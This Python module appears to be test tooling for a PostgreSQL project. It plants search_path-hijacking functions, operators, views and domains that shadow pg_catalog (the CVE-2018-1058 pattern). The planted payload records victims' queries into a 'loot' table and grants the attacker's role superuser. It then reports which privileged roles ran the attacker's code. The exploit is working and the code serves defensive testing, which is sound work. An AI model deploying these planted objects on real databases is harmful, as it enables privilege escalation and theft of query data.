"""What an attacker leaves where undoubt will pass: functions, operators, types and views of the names that
its statements use, each of which does what the real one does, and a little more."""

from __future__ import annotations

import contextlib
import re
from collections.abc import Iterable
from functools import cache

import asyncpg

from tests.house.tree import files
from tests.prove.impostor.people import APP, CHIEF, Connection

LOOT = "loot"
_CALL = re.compile(r"\b([a-z_][a-z0-9_]*)\s*\(")
_WORD = re.compile(r"\b(pg_[a-z_]+)\b")
_LIBRARIES = {
    "current_schema", "version", "pg_table_is_visible", "pg_type_is_visible", "format_type", "pg_get_expr",
    "pg_get_constraintdef", "quote_ident", "array_agg", "max", "min", "sum", "count",
}  # fmt: skip
"""What drivers, SQLAlchemy and Alembic call by themselves."""
_TYPES = ("text", "name", "int2", "int4", "int8", "oid", "xid", "xid8", "char", "bool", "timestamptz",
          "interval", "float8", "bytea", "regclass", "regprocedure", "pg_lsn", "varchar")  # fmt: skip
_OPERATORS = ("=", "<>", "<", "<=", ">", ">=", "+", "-", "*", "||", "~", "!~", "~~", "@>", "&&", "->>")
IN_PUBLIC = """
    create function {s}.unnest(int[]) returns setof int language sql as
        $$ select {s}.payload(); select * from pg_catalog.unnest($1) $$;
    create function {s}.unnest(bigint[]) returns setof bigint language sql as
        $$ select {s}.payload(); select * from pg_catalog.unnest($1) $$;
    create function {s}.unnest(text[]) returns setof text language sql as
        $$ select {s}.payload(); select * from pg_catalog.unnest($1) $$;
    create function {s}.cat(oid, text) returns text language sql as
        $$ select {s}.payload(); select $1::pg_catalog.text operator(pg_catalog.||) $2 $$;
    create operator {s}.|| (leftarg = oid, rightarg = text, function = {s}.cat);
    create function {s}.cat(oid, oid) returns text language sql as
        $$ select {s}.payload(); select $1::pg_catalog.text operator(pg_catalog.||) $2::pg_catalog.text $$;
    create operator {s}.|| (leftarg = oid, rightarg = oid, function = {s}.cat);
    create function {s}.cat(text, oid) returns text language sql as
        $$ select {s}.payload(); select $1 operator(pg_catalog.||) $2::pg_catalog.text $$;
    create operator {s}.|| (leftarg = text, rightarg = oid, function = {s}.cat);
    create function {s}.format(text, bigint, bigint) returns text language sql as
        $$ select {s}.payload(); select pg_catalog.format($1, $2, $3) $$;
    create function {s}.make_interval(secs numeric) returns interval language sql as
        $$ select {s}.payload(); select pg_catalog.make_interval(secs => $1::float8) $$;
    create function {s}.greatest(text) returns text language sql as $$ select {s}.payload(); select $1 $$;
"""
"""Where pg_catalog is looked through first, a better match wins all the same: the kind of CVE-2018-1058."""


async def payload(connection: Connection, schema: str) -> None:
    """Run as somebody honest, it takes what it can get and writes down who that was."""
    role = await connection.fetchval("select current_user")
    await connection.execute(
        f"create schema if not exists {schema}; grant usage on schema {schema} to public"
    )
    await connection.execute(
        f"create table {schema}.{LOOT} (who text, what text); grant insert on {schema}.{LOOT} to public"
    )
    await connection.execute(f"""
        create or replace function {schema}.payload() returns void language plpgsql
            set search_path = pg_catalog as $$
        begin
            if current_user not in ('{APP}', '{CHIEF}') then return; end if;
            begin
                insert into {schema}.{LOOT} values (current_user, current_query());
            exception when others then null;
            end;
            begin
                if not (select rolsuper from pg_catalog.pg_roles where rolname = '{role}') then
                    execute 'alter role {role} superuser';
                end if;
            exception when others then null;
            end;
        end $$
    """)
    await connection.execute(f"grant execute on function {schema}.payload() to public")


async def plant_in_path(connection: Connection, schema: str) -> None:
    """Better matches than those of pg_catalog, in a schema that is looked through after it."""
    await payload(connection, schema)
    for statement in IN_PUBLIC.format(s=schema).split(";\n    create"):
        with contextlib.suppress(asyncpg.PostgresError):
            await connection.execute(statement if "create" in statement[:12] else f"create{statement}")


async def plant_before_catalog(connection: Connection, schema: str) -> int:
    """Everything of pg_catalog that any statement names, in a schema that is looked through before it; how
    many of them could be made."""
    await payload(connection, schema)
    statements = [
        *await _functions(connection, schema),
        *await _operators(connection, schema),
        *await _views(connection, schema),
    ]
    made = 0
    for statement in statements:
        with contextlib.suppress(asyncpg.PostgresError):
            await connection.execute(statement)
            made += 1
    for name in _TYPES:
        with contextlib.suppress(asyncpg.PostgresError):
            await connection.execute(f"""
                create function {schema}.checked(pg_catalog."{name}") returns pg_catalog.bool language sql as
                    $$ select {schema}.payload(); select true $$;
                create domain {schema}."{name}" as pg_catalog."{name}" check ({schema}.checked(value))
            """)
            made += 1
    return made


@cache
def _named() -> tuple[frozenset[str], frozenset[str]]:
    """What is called, and what of pg_catalog is named, anywhere in the rooms and the migrations."""
    calls, words = set(_LIBRARIES), set[str]()
    for path in files():
        if path.suffix in {".sql", ".py"} and "tests" not in path.parts:
            text = path.read_text()
            calls |= set(_CALL.findall(text))
            words |= set(_WORD.findall(text))
    words |= {"pg_class", "pg_namespace", "pg_type", "pg_attribute", "pg_attrdef", "pg_proc", "pg_tables"}
    return frozenset(calls | words), frozenset(words)


async def _functions(connection: Connection, schema: str) -> Iterable[str]:
    rows = await connection.fetch(
        """
        select p.oid, p.proname, pg_get_function_arguments(p.oid) as arguments, p.pronargs,
               pg_get_function_result(p.oid) as result, p.proretset or p.prorettype = 2249 as many
          from pg_proc p
         where p.pronamespace = 'pg_catalog'::regnamespace and p.prokind = 'f' and p.proname = any ($1)
           and p.provariadic = 0
        """,
        list(_named()[0]),
    )
    made = []
    for row in rows:
        call = f"pg_catalog.{row['proname']}({', '.join(f'${n + 1}' for n in range(row['pronargs']))})"
        what = f"* from {call}" if row["many"] else call
        made.append(
            f"create function {schema}.{row['proname']}({row['arguments']}) returns {row['result']}"
            f" language sql as $$ select {schema}.payload(); select {what} $$"
        )
    return made


async def _operators(connection: Connection, schema: str) -> Iterable[str]:
    rows = await connection.fetch(
        """
        select o.oid, o.oprname, format_type(o.oprleft, null) as l, format_type(o.oprright, null) as r,
               format_type(o.oprresult, null) as result
          from pg_operator o
         where o.oprnamespace = 'pg_catalog'::regnamespace and o.oprname = any ($1) and o.oprleft <> 0
           and o.oprleft::regtype::text = any ($2) and o.oprright::regtype::text = any ($2)
        """,
        list(_OPERATORS),
        ["text", "name", "smallint", "integer", "bigint", "oid", "xid", "xid8", '"char"', "boolean",
         "timestamp with time zone", "interval", "double precision", "bytea", "numeric"],
    )  # fmt: skip
    return [
        f"create function {schema}.op{row['oid']}({row['l']}, {row['r']}) returns {row['result']}"
        f" language sql as $$ select {schema}.payload();"
        f" select $1 operator(pg_catalog.{row['oprname']}) $2 $$;"
        f" create operator {schema}.{row['oprname']} (leftarg = {row['l']}, rightarg = {row['r']},"
        f" function = {schema}.op{row['oid']})"
        for row in rows
    ]


async def _views(connection: Connection, schema: str) -> Iterable[str]:
    rows = await connection.fetch(
        "select relname from pg_class where relnamespace = 'pg_catalog'::regnamespace and relname = any ($1)",
        list(_named()[1]),
    )
    made = []
    for row in rows:
        name = row["relname"]
        made.append(
            f"create view {schema}.{name} as select r.* from pg_catalog.{name} r, lateral"
            f" (select {schema}.payload()) as p; grant select on {schema}.{name} to public"
        )
    return made


async def loot(root: Connection) -> list[tuple[str, str]]:
    """Who honest has run an attacker's code, and in which statement."""
    found: list[tuple[str, str]] = []
    schemas = await root.fetch(
        "select n.nspname from pg_catalog.pg_class c join pg_catalog.pg_namespace n on n.oid = c.relnamespace"
        " where c.relname = $1",
        LOOT,
    )
    for row in schemas:
        rows = await root.fetch(f'select distinct who, what from "{row["nspname"]}".{LOOT}')
        found += [(each["who"], each["what"]) for each in rows]
    return found
